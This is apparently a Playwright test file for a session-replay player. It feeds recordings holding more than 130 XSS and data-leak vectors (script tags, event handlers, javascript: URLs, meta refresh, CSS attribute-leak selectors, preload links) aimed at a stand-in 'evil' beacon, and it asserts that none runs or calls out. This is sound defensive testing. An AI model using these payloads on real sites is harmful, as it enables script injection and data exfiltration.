"""Hostile recordings in a real browser: of a hundred and more ways to run code or to call out, none works.

Each vector is once part of the first snapshot and once added later by a mutation; a server that nothing should call
listens. The recordings go through the real server: import, segments, page.
"""

# ruff: noqa: E501  (a vector reads best on one line)
from __future__ import annotations

import base64
import itertools
import json
import urllib.request
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.pages.conftest import add_recording, element, event, page_load, text

RUN = "(parent.hacked=top.hacked=window.hacked=1)"


def vectors(evil: str) -> list[dict[str, Any]]:
    """Return one node a vector; ids are given by `numbered`."""

    def node(tag: str, *children: Any, **attributes: Any) -> dict[str, Any]:
        return element(0, tag, *children, **{name.rstrip("_"): value for name, value in attributes.items()})

    def svg(tag: str, *children: Any, **attributes: Any) -> dict[str, Any]:
        return {**node(tag, *children, **attributes), "isSVG": True}

    def words(content: str) -> dict[str, Any]:
        return text(0, content)

    def css(content: str) -> dict[str, Any]:
        return node("style", words(content))

    def url(name: str) -> str:
        return f"{evil}/{name}"

    script = f"<script>{RUN}</script>"
    found: list[dict[str, Any]] = []
    # scripts, whatever their spelling and namespace
    found += [node(tag, words(RUN)) for tag in ("script", "SCRIPT", "Script", "sCRIPT", "svg:script", "script ")]
    found += [node("script", src=url("script.js")), node("SCRIPT", src=url("script2.js"), type="module")]
    found += [
        node(
            "script",
            words(json.dumps({"prefetch": [{"source": "list", "urls": [url("spec")]}]})),
            type="speculationrules",
        )
    ]
    found += [svg("svg", svg("script", words(RUN))), svg("svg", svg("SCRIPT", words(RUN), href=url("svg.js")))]
    found += [node("noscript", node("img", src=url("noscript.png"))), node("template", node("script", words(RUN)))]
    # handlers
    for name in (
        "onload",
        "onerror",
        "onfocus",
        "ONERROR",
        "onpointerenter",
        "onanimationstart",
        "ontoggle",
        "onbegin",
    ):
        found.append(node("img", src="x", **{name: RUN}))
        found.append(svg("svg", svg("animate", attributeName="x", dur="1ms", **{name: RUN}), **{name: RUN}))
    found += [node("input", autofocus="", onfocus=RUN), node("details", node("p", words("x")), open="", ontoggle=RUN)]
    found += [node("body", onload=RUN), node("video", node("source", src=url("v.mp4"), onerror=RUN), autoplay=True)]
    found += [node("audio", src=url("a.mp3"), autoplay=True, onerror=RUN), node("marquee", words("x"), onstart=RUN)]
    # frames, plugins
    for tag in ("iframe", "IFRAME", "frame", "embed", "object", "portal", "fencedframe"):
        found.append(node(tag, src=url(tag), data=url(f"{tag}-data")))
        found.append(node(tag, src=f"javascript:{RUN}", data=f"javascript:{RUN}"))
        found.append(node(tag, src=f"data:text/html,{script}", data=f"data:text/html,{script}"))
    found += [node("iframe", srcdoc=script), node("iframe", SRCDOC=script, sandbox="allow-scripts allow-same-origin")]
    found += [node("iframe", srcdoc=f"<img src={url('srcdoc.png')}>"), node("iframe", src="about:blank", name="x")]
    found += [node("object", node("param", name="movie", value=url("m.swf")), type="application/x-shockwave-flash")]
    found += [
        node("applet", code="X", archive=url("x.jar"), codebase=evil),
        node("frameset", node("frame", src=url("fs"))),
    ]
    # addresses that act
    for scheme in (f"javascript:{RUN}", f" \tjava\nscript:{RUN}", f"JaVaScRiPt:{RUN}", f"vbscript:{RUN}"):
        found.append(node("a", words("go"), href=scheme, id="bait"))
        found.append(node("form", node("button", words("send"), formaction=scheme), action=scheme))
    found += [svg("svg", svg("a", svg("text", words("go")), **{"xlink:href": f"javascript:{RUN}"}))]
    found += [svg("svg", svg("a", svg("animate", attributeName="href", values=f"javascript:{RUN}", dur="1s")))]
    found += [
        svg("svg", svg("set", attributeName="onclick", to=RUN)),
        node("a", words("x"), href=url("a"), ping=url("ping")),
    ]
    found += [
        node("a", words("x"), href=url("pop"), target="_blank"),
        node("base", href=f"{evil}/base/", target="_top"),
    ]
    found += [node("img", src="relative-to-base.png"), node("isindex", action=f"javascript:{RUN}")]
    # going elsewhere
    for said in ("refresh", "Refresh", "REFRESH"):
        found.append(node("meta", **{"http-equiv": said, "content": f"0; url={url('refresh')}"}))
        found.append(node("meta", **{"HTTP-EQUIV": said, "content": f"0;url=javascript:{RUN}"}))
    found += [node("meta", **{"http-equiv": "Content-Security-Policy", "content": f"report-uri {url('csp')}"})]
    found += [node("meta", **{"http-equiv": "set-cookie", "content": "a=b"}), node("html", manifest=url("manifest"))]
    # connections by hint
    for rel in (
        "stylesheet",
        "preload",
        "prefetch",
        "preconnect",
        "dns-prefetch",
        "modulepreload",
        "prerender",
        "import",
    ):
        found.append(node("link", rel=rel, href=url(f"link-{rel}"), as_="style"))
    found += [node("link", rel="icon", href=url("icon")), node("link", rel="manifest", href=url("webmanifest"))]
    found += [
        node("link", rel="PRECONNECT", href=evil),
        node("link", rel="preload", imagesrcset=url("set"), as_="image"),
    ]
    # pictures and media
    found += [
        node("img", src=url("img.png")),
        node("img", srcset=f"{url('srcset.png')} 1x"),
        node("image", src=url("image")),
    ]
    found += [node("img", rr_dataURL=url("rr-data.png"), src=""), node("canvas", rr_dataURL=url("rr-canvas.png"))]
    found += [node("img", rr_dataURL=f"javascript:{RUN}"), node("input", type="image", src=url("input.png"))]
    found += [node("img", src=url("attribution"), attributionsrc=url("attributionsrc"), loading="eager")]
    found += [node("picture", node("source", srcset=url("picture.png")), node("img", src=""))]
    found += [
        node("video", poster=url("poster.png"), src=url("video.mp4"), preload="auto"),
        node("bgsound", src=url("bg")),
    ]
    found += [node("video", node("track", src=url("track.vtt"), default=True), src="data:video/mp4,x")]
    found += [node("table", background=url("table.png")), node("body", background=url("body.png"))]
    found += [svg("svg", svg("image", href=url("svg-image.png")), svg("use", href=f"{url('sprite.svg')}#x"))]
    found += [svg("svg", svg("feImage", href=url("feimage.png")), svg("image", **{"xlink:href": url("xlink.png")}))]
    found += [
        svg("svg", svg("foreignObject", node("img", src=url("foreign.png"))), svg("rect", fill=f"url({url('fill')})"))
    ]
    found += [svg("svg", svg("rect", filter=f"url({url('filter.svg')}#f)", mask=f"url({url('mask.svg')}#m)"))]
    # style sheets
    at = "@import"
    found += [css(f"{at} url({url('import.css')});"), css(f"{at} '{url('import2.css')}' screen;")]
    found += [css(f"@font-face {{font-family: x; src: url({url('font.woff')})}} * {{font-family: x}}")]
    found += [css(f"input[value^=s] {{background: url({url('leak-s')})}}"), node("input", value="secret")]
    found += [
        css(f"h1 {{background: image-set('{url('set1')}' 1x)}}"),
        css(f"h1::before {{content: url({url('content')})}}"),
    ]
    found += [css(f"h1 {{cursor: url({url('cursor')}), auto; list-style: url({url('list')})}}")]
    found += [
        css(
            f"h1 {{border-image: url({url('border')}); mask: url({url('css-mask')}); filter: url({url('css-filter')})}}"
        )
    ]
    found += [css(f"h1 {{--x: url({url('var')}); background: var(--x)}}"), css(f"@namespace url({url('namespace')});")]
    found += [
        node("p", words("x"), style=f"background: url({url('inline')})"),
        css(f"h1 {{behavior: url({url('htc')})}}"),
    ]
    found += [node("p", words("x"), style=f"background: u\\72l({url('escaped')}); -moz-binding: url({url('xbl')})")]
    found += [
        node("link", rel="stylesheet", _cssText=f"h1 {{background: url({url('csstext')})}}", href=url("linked.css"))
    ]
    found += [node("style", words(""), _cssText=f"{at} url({url('csstext-import')});")]
    # forms and popups
    found += [
        node("form", node("button", words("send"), type="submit"), action=url("form"), method="post", target="_blank")
    ]
    found += [
        node("dialog", words("hello"), open="", rr_open_mode="modal"),
        node("p", words("x"), contenteditable="true"),
    ]
    return found


def later(evil: str) -> list[dict[str, Any]]:
    """What only events can do: attributes set on what is there, rules, fonts, canvas constructors, media."""
    code = {"rr_type": "Function", "args": [RUN]}
    picture = {"rr_type": "HTMLImageElement", "src": f"{evil}/canvas.png"}
    changes = [
        {"id": 6, "attributes": {"onclick": RUN, "onpointermove": RUN, "background": f"{evil}/late-body.png"}},
        {"id": 900, "attributes": {"src": f"javascript:{RUN}", "srcdoc": f"<script>{RUN}</script>"}},
        {"id": 901, "attributes": {"rel": "preconnect"}},
        {"id": 901, "attributes": {"href": f"{evil}/late-link"}},
        {"id": 902, "attributes": {"http-equiv": "refresh", "content": f"0;url={evil}/late-refresh"}},
    ]
    return [
        {"source": 0, "texts": [], "attributes": changes, "removes": [], "adds": []},
        {"source": 8, "id": 903, "adds": [{"rule": f"h1 {{background: url({evil}/rule)}}", "index": 0}]},
        {"source": 13, "id": 903, "index": [0], "set": {"property": "background", "value": f"url({evil}/declared)"}},
        {"source": 15, "id": 1, "styleIds": [1], "styles": [{"styleId": 1, "rules": [{"rule": f"h1 {{background: url({evil}/adopted)}}", "index": 0}]}]},
        {"source": 10, "family": "f", "fontSource": f"url({evil}/late-font.woff)", "buffer": False},
        {"source": 9, "id": 904, "type": 0, "commands": [{"property": "drawImage", "args": [code, 0, 0]}]},
        {"source": 9, "id": 904, "type": 0, "property": "drawImage", "args": [picture, 0, 0]},
        {"source": 9, "id": 904, "type": 1, "property": "constructor", "args": [RUN]},
        {"source": 7, "type": 0, "id": 905},
        {"source": 16, "define": {"name": "x-evil"}},
    ]  # fmt: skip


def numbered(nodes: list[dict[str, Any]], ids: Any) -> list[dict[str, Any]]:
    for node in nodes:
        node["id"] = next(ids)
        numbered(node.get("childNodes", []), ids)
    return nodes


def flat(parent: int, nodes: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The nodes as additions, each parent before what it holds, as rrweb records them."""
    found = []
    for node in nodes:
        found.append(
            {"parentId": parent, "nextId": None, "node": {**node, "childNodes": []} if "childNodes" in node else node}
        )
        found += flat(node["id"], node.get("childNodes", []))
    return found


def targets() -> list[dict[str, Any]]:
    return [
        element(900, "iframe"),
        element(901, "link"),
        element(902, "meta"),
        element(903, "style", text(906, "p {}")),
        element(904, "canvas", width="20", height="20"),
        element(905, "video"),
    ]


def recording(evil: str, how: str) -> list[dict[str, Any]]:
    nodes = numbered(vectors(evil), itertools.count(1_000))
    heading = element(10, "h1", text(11, "Hostile"))
    events = page_load(
        0, "https://evil.example/", "Hostile", heading, *targets(), *(nodes if how == "snapshot" else [])
    )
    if how == "mutation":
        adds = flat(6, nodes)
        data = {"source": 0, "texts": [], "attributes": [], "removes": [], "adds": adds}
        events.append(event(300, 3, data))
    events += [event(600 + at * 20, 3, data) for at, data in enumerate(later(evil))]
    return [*events, event(2_500, 5, {"tag": "x", "payload": 0})]


def test_there_are_a_hundred_and_more() -> None:
    assert len(vectors("http://evil")) + len(later("http://evil")) >= 130


@pytest.mark.parametrize("how", ["snapshot", "mutation"])
def test_nothing_runs_and_nothing_calls_out(tab, app, beacon, how):
    requests: list[str] = []
    note = lambda request: requests.append(request.url)  # noqa: E731
    tab.context.on("request", note)
    opened = len(tab.context.pages)
    session = add_recording(app, recording(beacon.url, how))
    tab.goto(f"{app.url}/sessions/{session}?t_ms=1000")
    tab.locator(".player[data-state=paused]").wait_for()
    expect(tab.frame_locator(".stage iframe").locator("h1").first).to_have_text("Hostile")
    tab.keyboard.press("Home")
    tab.get_by_role("slider", name="Moment").press("Home")
    tab.keyboard.press("Space")
    expect(tab.locator(".player")).to_have_attribute("data-state", "ended", timeout=15_000)
    tab.wait_for_timeout(700)  # a refresh, a prefetch, a font may take a moment
    assert tab.evaluate("window.hacked") is None
    frame = tab.query_selector(".stage iframe").content_frame()
    assert frame.evaluate("typeof hacked") == "undefined"
    tab.context.remove_listener("request", note)
    own = [f"{app.url}/", "data:", "blob:", "about:"]
    left = [url for url in requests if not url.startswith(tuple(own)) and not url.startswith(beacon.url)]
    assert left == []
    assert beacon.heard == []
    assert len(tab.context.pages) == opened
    assert tab.url.startswith(app.url)
    tab.wrong.clear()  # the policy refuses what the recording asks for, and says so


@pytest.mark.parametrize("how", ["snapshot", "mutation"])
def test_what_the_server_hands_out_holds_nothing_that_acts(app, beacon, how):
    """The second wall stands without the first: whoever reads the API gets events that cannot act."""
    session = add_recording(app, recording(beacon.url, how))
    with urllib.request.urlopen(f"{app.url}/api/sessions/{session}/events?from_ms=0", timeout=30) as response:
        events = json.loads(response.read())
    tags: list[str] = []
    names: list[str] = []
    addresses: list[str] = []

    def walk(value: Any) -> None:
        if isinstance(value, list):
            for item in value:
                walk(item)
        elif isinstance(value, dict):
            if isinstance(value.get("tagName"), str):
                tags.append(value["tagName"].lower())
            if isinstance(value.get("attributes"), dict):
                names.extend(name.lower() for name in value["attributes"])
                addresses.extend(str(given) for name, given in value["attributes"].items() if name != "value")
            for item in value.values():
                walk(item)

    walk(events)
    assert "script" not in tags and "svg:script" not in tags
    assert not [name for name in names if name.startswith("on") or name in ("srcdoc", "ping", "attributionsrc")]
    squeezed = ["".join(address.split()).lower() for address in addresses]
    assert not [address for address in squeezed if address.startswith(("javascript:", "vbscript:", "data:text"))]
    assert b"Function" not in json.dumps([one for one in events if one["type"] == 3]).encode()


def test_a_canvas_is_shown_as_the_picture_that_was_taken_of_it(tab, app):
    """One red pixel, stretched over the canvas; nothing of rrweb's canvas replay is switched on."""
    png = tab.evaluate(
        """() => { const c = document.createElement("canvas"); c.width = c.height = 1;
        const x = c.getContext("2d"); x.fillStyle = "rgb(255,0,0)"; x.fillRect(0, 0, 1, 1);
        return c.toDataURL("image/png").split(",")[1]; }"""
    )
    assert base64.b64decode(png)
    blob = {"rr_type": "Blob", "data": [{"rr_type": "ArrayBuffer", "base64": png}], "type": "image/png"}
    draw = {"property": "drawImage", "args": [{"rr_type": "ImageBitmap", "args": [blob]}, 0, 0, 20, 20]}
    commands = [{"property": "clearRect", "args": [0, 0, 20, 20]}, draw]
    canvas = element(10, "canvas", width="20", height="20")
    events = [
        *page_load(0, "https://x.example/", "x", canvas),
        event(500, 3, {"source": 9, "id": 10, "type": 0, "commands": commands}),
    ]
    session = add_recording(app, [*events, event(2_000, 5, {"tag": "x", "payload": 0})])
    tab.goto(f"{app.url}/sessions/{session}?t_ms=1000")
    tab.locator(".player[data-state=paused]").wait_for()
    frame = tab.query_selector(".stage iframe").content_frame()
    pixel = "() => [...document.querySelector('canvas').getContext('2d').getImageData(10, 10, 1, 1).data]"
    for _ in range(40):
        if frame.evaluate(pixel) == [255, 0, 0, 255]:
            break
        tab.wait_for_timeout(50)
    assert frame.evaluate(pixel) == [255, 0, 0, 255]
